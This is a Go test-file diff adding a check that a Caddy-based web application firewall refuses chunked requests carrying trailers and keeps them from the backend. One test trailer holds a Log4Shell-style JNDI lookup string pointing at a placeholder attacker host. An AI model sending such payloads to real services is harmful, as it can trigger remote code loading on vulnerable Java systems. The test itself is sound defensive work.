@@ -4,6 +4,7 @@ import (
 	"bytes"
 	"encoding/base64"
 	"fmt"
+	"io"
 	"mime/multipart"
 	"net/http"
 	"net/url"
@@ -324,5 +325,43 @@ func TestDecodedValuesCountAgainstTheLimits(t *testing.T) {
 	}
 	if *hits != before {
 		t.Errorf("the backend got %d of the refused requests", *hits-before)
+	}
+}
+
+// TestTrailersAreRefused: a chunked request's trailers are read after the
+// body and never inspected, so a request carrying any is refused (400)
+// and the upstream gets none of it; the same request without trailers
+// passes.
+func TestTrailersAreRefused(t *testing.T) {
+	base, hits := startCaddy(t, "waf")
+	do := func(trailer http.Header) int {
+		req, err := http.NewRequest("POST", base+"/api", io.MultiReader(strings.NewReader(`{"a": "b"}`)))
+		if err != nil {
+			t.Fatal(err)
+		}
+		req.ContentLength = -1 // chunked
+		req.Header.Set("Content-Type", "application/json")
+		req.Header.Set("User-Agent", "Mozilla/5.0 gateway-test")
+		req.Trailer = trailer
+		resp, err := http.DefaultClient.Do(req)
+		if err != nil {
+			t.Fatal(err)
+		}
+		_, _ = io.Copy(io.Discard, resp.Body)
+		_ = resp.Body.Close()
+		return resp.StatusCode
+	}
+	if code := do(nil); code != http.StatusOK {
+		t.Fatalf("chunked without trailers: %d, want 200", code)
+	}
+	before := *hits
+	if code := do(http.Header{"User-Agent": {"${jndi:ldap://evil.example/a}"}}); code != http.StatusBadRequest {
+		t.Errorf("a trailer User-Agent: ${jndi:...}: %d, want 400", code)
+	}
+	if code := do(http.Header{"X-Note": {"harmless"}}); code != http.StatusBadRequest {
+		t.Errorf("a harmless trailer: %d, want 400", code)
+	}
+	if *hits != before {
+		t.Errorf("the backend got %d requests with trailers", *hits-before)
 	}
 }
